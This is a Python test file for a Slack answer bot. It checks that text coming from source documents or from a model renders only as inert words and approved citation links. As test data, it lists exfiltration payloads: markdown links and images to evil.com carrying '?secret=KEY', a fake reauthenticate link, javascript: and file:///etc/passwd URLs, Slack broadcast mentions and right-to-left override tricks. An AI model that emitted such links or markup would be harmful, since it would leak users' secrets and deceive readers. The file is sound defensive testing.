"""What is shown in Slack: links and labels as code sets them, and every other word inert."""

from __future__ import annotations

from datetime import date
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.answering.outcome import ABSTAINED, UNLINKED, Abstained, Answered, Audience, Citation, Unlinked
from bot.slack.blocks import LONGEST_TEXT, escaped, reply, sentence
from connectors.chat import Message
from policies.names import ChunkId
from policies.speech import safe_title, speakable
from tests.doubles.slack import problems_of, shown

ALONE = Audience("dm", "asker", "")
CHUNK = ChunkId.parse("sample:travel.md@v3#C.2")
PIECES = (
    "<!channel> <!here> <@U0BEN> <!subteam^S1|all> <https://evil.example|see> [S1] [S9] @here &lt;!channel&gt; *b* ` "
    "``` :tada: | javascript:x \u202e a"
).split()
HOSTILE = st.lists(st.sampled_from([*PIECES, "\n", " "]) | st.text(max_size=20), max_size=40).map("".join)


def citation(label: str = "S1", **more: Any) -> Citation:
    given: dict[str, Any] = {
        "label": label,
        "chunk": CHUNK,
        "title": "Travel policy",
        "url": "https://docs.example.com/travel",
        "page": None,
        "quote": "q",
        "supported": True,
    }
    return Citation(**{**given, **more})


def written(message: Message) -> dict[str, Any]:
    return {"text": message.text, "blocks": list(message.blocks)}


def elements(of: Any) -> list[dict[str, Any]]:
    if isinstance(of, dict):
        return [of, *(each for value in of.values() for each in elements(value))]
    return [each for value in of for each in elements(value)] if isinstance(of, list | tuple) else []


def links(message: Message) -> list[str]:
    return [each["url"] for each in elements(message.blocks) if each.get("type") == "link"]


def test_a_label_is_a_numbered_link_and_its_source_says_section_version_and_date() -> None:
    source = citation(effective_from=date(2026, 1, 1), superseded=True, page=4)
    message = reply(Answered("Airfare above 500 needs approval. [S1]", (source,), ALONE, ("A note.",), "t"))

    assert problems_of(written(message)) == []
    assert shown(written(message)).split("\n") == [
        "Airfare above 500 needs approval. [1]<https://docs.example.com/travel>",
        "",
        "",
        "[1] Travel policy<https://docs.example.com/travel> · C.2, page 4 · v3 · in force from 2026-01-01 · superseded",
        "",
        "A note.",
    ]
    assert message.text == "Airfare above 500 needs approval. [1]\n\n[1] Travel policy"


def test_a_source_without_a_web_address_is_words() -> None:
    for url in ("", "javascript:alert(1)", "https://a|b", "https://user:pw@docs.example.com/", "file:///etc/passwd"):
        message = reply(Answered("Yes. [S1]", (citation(url=url),), ALONE, (), "t"))

        assert links(message) == []
        assert problems_of(written(message)) == []


def test_a_forged_label_is_no_link() -> None:
    message = reply(Answered("Yes. [S1][S7]", (citation(),), ALONE, (), "t"))

    assert "[S7]" in shown(written(message))
    assert len(links(message)) == 2


def test_our_own_sentences_show_commands_as_code() -> None:
    message = reply(Unlinked(ALONE, "t"))

    assert [each["text"] for each in elements(message.blocks) if each.get("style")] == ["/footnote link"]
    assert shown(written(message)) == UNLINKED.replace("`", "")
    assert shown(written(reply(Abstained(ALONE, "t")))) == ABSTAINED


def test_a_very_long_answer_fits_and_says_that_it_was_cut() -> None:
    lines = "\n".join(f"Line {number} says something about airfare and hotels and meals. [S1]" for number in range(900))
    for text in (lines, "x" * 100_000, "& < >" * 9_000):
        message = reply(Answered(text, (citation(title="T" * 400),) * 40, ALONE, ("n" * 4_000,) * 30, "t"))

        assert problems_of(written(message)) == []
        assert "Ask for one part of it" in shown(written(message))


@pytest.mark.parametrize(
    "text",
    [
        "[click here to reauthenticate](https://evil.com/confetti?secret=KEY)",  # T-080
        "[text][ref]\n\n[ref]: https://evil.com?k=KEY",  # T-081
        "![chart](https://evil.com/a.png?k=KEY) <img src=https://evil.com>",  # T-082
        "https://docs.example.com/travel?leak=KEY",  # T-083: not the very address of the source
        "<!channel> <@U0BEN> <!subteam^S1> <!date^1^{date}|x> @here",  # T-084
        "<https://evil.com|https://docs.example.com/travel>",
        "```\nan unclosed fence https://evil.com",
        "\u202e\u200bevil\u200b.example",
        "| a | b |\n|---|---|\n" + "| CO-197 | 14 days |\n" * 60,
    ],
)
def test_t080_to_t084_what_a_model_may_write_is_words(text: str) -> None:
    said = speakable(text)
    message = reply(Answered(f"{said} [S1]", (citation(),), ALONE, (said,), "t"))

    assert problems_of(written(message)) == []
    assert set(links(message)) == {"https://docs.example.com/travel"}
    assert {"image", "user", "usergroup", "broadcast", "date"}.isdisjoint(
        each.get("type") for each in elements(message.blocks)
    )
    for word in ("evil.com", "KEY", "<", "\u202e"):
        assert word not in shown(written(message)).replace("<https://docs.example.com/travel>", "") + message.text


@pytest.mark.parametrize("title", ["<https://evil.com|Payroll>", "\u202eetisbew lanretni", "T" * 10_000, "a\nb"])
def test_t086_a_title_is_a_short_label_and_nothing_else(title: str) -> None:
    message = reply(Answered("Yes. [S1]", (citation(title=safe_title(title)),), ALONE, (), "t"))

    assert problems_of(written(message)) == []
    assert set(links(message)) == {"https://docs.example.com/travel"}
    [label] = [
        each["text"] for each in elements(message.blocks) if each.get("type") == "link" and each["text"] != "[1]"
    ]
    assert len(label) < 200
    assert "\u202e" not in label
    assert "\n" not in label


@given(HOSTILE, HOSTILE, HOSTILE, HOSTILE)
@settings(max_examples=200, deadline=None)
def test_nothing_from_a_document_or_a_model_is_markup(text: str, title: str, section: str, note: str) -> None:
    chunk = ChunkId(CHUNK.document, title or "v", section or "s")
    message = reply(Answered(text or "a", (citation(title=title or "t", chunk=chunk),), ALONE, (note or "n",), "t"))

    assert problems_of(written(message)) == []
    assert set(links(message)) <= {"https://docs.example.com/travel"}
    assert {each["type"] for each in elements(message.blocks) if "type" in each} <= {
        "rich_text", "rich_text_section", "text", "link", "divider", "context", "plain_text",
    }  # fmt: skip
    assert "<" not in message.text
    assert ">" not in message.text
    assert len(message.text) <= LONGEST_TEXT


@given(HOSTILE)
def test_an_escaped_text_reads_as_it_was(text: str) -> None:
    import html

    assert not set(escaped(text)) & {"<", ">"}
    assert html.unescape(escaped(text.replace("&", "+"))) == text.replace("&", "+")


@given(HOSTILE.filter(bool))
def test_a_sentence_is_never_markup(text: str) -> None:
    assert problems_of(written(sentence(text))) == [] or not text.strip("`")
